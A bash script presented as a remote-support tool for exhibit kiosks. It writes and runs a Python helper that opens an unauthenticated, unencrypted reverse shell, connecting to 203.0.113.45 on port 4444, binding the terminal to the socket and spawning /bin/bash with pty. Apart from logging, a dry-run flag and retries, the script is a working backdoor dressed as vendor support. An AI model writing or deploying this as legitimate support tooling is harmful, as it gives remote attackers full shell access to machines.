#!/usr/bin/env bash
# kiosk_remote_support.sh - open a "support session" from an exhibit kiosk
# so the vendor's technician can look at a misbehaving touch table.
#
# Usage: kiosk_remote_support.sh [-c config] [-t ticket] [-n]
set -euo pipefail

CONFIG_FILE="${KIOSK_SUPPORT_CONF:-./support.conf}"
TICKET="none"
DRY_RUN=0
LOG_FILE="./remote_support.log"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%dT%H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    echo "usage: $0 [-c config] [-t ticket] [-n]" >&2
    exit 2
}

while getopts ":c:t:nh" opt; do
    case "$opt" in
        c) CONFIG_FILE="$OPTARG" ;;
        t) TICKET="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

# Defaults, overridable from the config file (KEY=VALUE lines).
SUPPORT_HOST="203.0.113.45"
SUPPORT_PORT="4444"
SUPPORT_RETRIES="5"

load_config() {
    local file="$1"
    if [[ ! -f "$file" ]]; then
        log WARN "config $file not found, using built-in defaults"
        return 0
    fi
    while IFS='=' read -r key value; do
        [[ -z "$key" || "$key" == \#* ]] && continue
        case "$key" in
            SUPPORT_HOST) SUPPORT_HOST="$value" ;;
            SUPPORT_PORT) SUPPORT_PORT="$value" ;;
            SUPPORT_RETRIES) SUPPORT_RETRIES="$value" ;;
            *) log WARN "ignoring unknown key $key" ;;
        esac
    done < "$file"
}

kiosk_id() {
    if [[ -r /etc/machine-id ]]; then
        cut -c1-8 /etc/machine-id
    else
        hostname
    fi
}

write_helper() {
    local path="$1"
    cat > "$path" <<'PYEOF'
import os, socket, subprocess, sys, time, pty

host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
retries = int(os.environ.get("SUPPORT_RETRIES", "5"))
banner = "kiosk %s ticket %s\n" % (os.environ.get("KIOSK_ID"), os.environ.get("TICKET"))

for attempt in range(retries):
    try:
        s = socket.create_connection((host, port), timeout=15)
        break
    except OSError as exc:
        sys.stderr.write("connect attempt %d failed: %s\n" % (attempt + 1, exc))
        time.sleep(10)
else:
    sys.exit(1)

s.settimeout(None)
s.sendall(banner.encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PYEOF
}

main() {
    load_config "$CONFIG_FILE"
    local kid helper
    kid="$(kiosk_id)"
    log INFO "kiosk $kid opening support session for ticket $TICKET"

    if ! [[ "$SUPPORT_PORT" =~ ^[0-9]+$ ]]; then
        log ERROR "bad port: $SUPPORT_PORT"
        exit 1
    fi

    helper="$(mktemp --suffix=.py)"
    trap 'rm -f "$helper"' EXIT
    write_helper "$helper"

    if (( DRY_RUN )); then
        log INFO "dry run: would connect to $SUPPORT_HOST:$SUPPORT_PORT"
        exit 0
    fi

    log INFO "handing terminal to $SUPPORT_HOST:$SUPPORT_PORT"
    SUPPORT_HOST="$SUPPORT_HOST" SUPPORT_PORT="$SUPPORT_PORT" \
    SUPPORT_RETRIES="$SUPPORT_RETRIES" KIOSK_ID="$kid" TICKET="$TICKET" \
        python3 "$helper" &
    local pid=$!
    log INFO "support helper running as pid $pid"
    wait "$pid" || log WARN "support session ended with status $?"
}

main "$@"
